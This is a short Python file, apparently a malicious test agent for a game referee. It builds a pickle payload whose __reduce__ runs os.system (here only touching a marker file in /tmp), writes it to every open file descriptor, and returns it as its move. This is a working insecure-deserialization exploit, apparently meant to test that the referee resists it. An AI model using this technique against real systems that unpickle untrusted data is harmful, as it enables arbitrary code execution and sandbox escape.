# SPDX-License-Identifier: MIT
"""Sends the referee a pickle that would run a command, as an answer and past it."""
import os
import pickle

import legal


class Payload:
    def __reduce__(self):
        return os.system, ("touch /tmp/tetress_was_here",)


class Agent(legal.Agent):
    def action(self, **referee):
        data = pickle.dumps(Payload(), 0).replace(b"\n", b" ") + b"\n"
        for number in os.listdir("/proc/self/fd"):
            try:
                os.write(int(number), data)
            except OSError:
                pass
        return Payload()
